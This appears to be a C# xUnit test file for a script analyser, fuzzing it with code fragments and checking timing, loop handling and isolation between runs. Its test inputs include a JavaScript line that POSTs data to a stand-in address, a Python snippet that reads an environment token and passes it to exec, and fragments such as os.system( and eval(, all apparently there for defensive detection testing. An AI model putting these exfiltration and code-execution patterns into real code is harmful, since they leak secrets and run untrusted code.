using System.Diagnostics;
using System.Text;
using CsCheck;
using Wellguard.Programs;
using Wellguard.Programs.Scripts;
using Xunit;

namespace Wellguard.Tests.Programs.Scripts;

public sealed class ScriptBoundsTests
{
    private static readonly string[] Languages = ["python", "javascript", "perl", "php", "ruby"];

    private static readonly string[] Pieces =
    [
        "(", ")", "[", "]", "{", "}", "'", "\"", "`", "${", "#{", "f'", "=>", "->", "::", ":", "?", "/", "<<E", "%w(", "qx{", "\n", "\n    ", ";", ",", "=", "+", "for x in ", "def f(a):", "function f(a){", "sub f {", "do |x|", "end",
        "if ", "else", "lambda x: ", "return ", "import os", "require('fs')", "exec(", "eval(", "os.system(", "chr(", "'id'", "1", "x", "$x", "@x", ".join(", "[::-1]", ".map(c=>", "class A", "<?php ", "\\", "\"\"\"", "//", "#", "/*", "await ", "new ", "my ", "...", "**",
    ];

    [Fact]
    public void Any_mixture_of_pieces_ends_without_an_exception() =>
        Gen.Select(Gen.Int[0, Languages.Length - 1].Select(static at => Languages[at]), Gen.Int[0, Pieces.Length - 1].Select(static at => Pieces[at]).Array[0, 120]).Sample(
            (language, pieces) => ScriptEvaluator.Evaluate(language, string.Concat(pieces), 1, new Analysis()) is not null, iter: 3_000);

    [Theory]
    [InlineData("python", "a = [1, 2]\nfor x in a:\n    a.append(x)\nb = [a.append(y) for y in a]\n")]
    [InlineData("javascript", "const a = [1, 2]; for (const x of a) { a.push(x); } a.map(x => a.push(x)); a.push(a); fetch('http://192.0.2.1', {method: 'POST', body: a})")]
    public void A_loop_may_change_what_it_goes_through(string language, string code) =>
        Assert.Equal(language == "python" ? 0 : 1, ScriptEvaluator.Evaluate(language, code, 1, new Analysis()).Count);

    [Fact]
    public void One_program_leaves_nothing_behind_for_the_next()
    {
        Evaluation.Of("python", "import os\ndef f(a):\n    a['x'] = os.environ['TOKEN']\nf(g)\n");
        Assert.Empty(Evaluation.Lines("python", "def f(a):\n    exec(a['x'])\n    exec(a)\n"));
    }

    [Theory]
    [InlineData("(", "")]
    [InlineData("[", "")]
    [InlineData("{", "")]
    [InlineData("if(a)", "")]
    [InlineData("a=", "b")]
    [InlineData("a?b:", "c")]
    [InlineData("!", "a")]
    [InlineData("s=s+s;", "")]
    [InlineData("eval('1;');", "")]
    [InlineData("function f(){f();f();", "")]
    [InlineData("a.b(", "")]
    [InlineData("`${", "")]
    [InlineData("x=>", "x")]
    public void Repetition_ends_in_bounded_time(string piece, string end)
    {
        var code = "s='aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa';" + new StringBuilder().Insert(0, piece, 200_000 / piece.Length) + end;
        var watch = Stopwatch.StartNew();
        foreach (var language in Languages)
        {
            ScriptEvaluator.Evaluate(language, code, 1, new Analysis());
        }

        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(20), $"{watch.Elapsed}");
    }
}
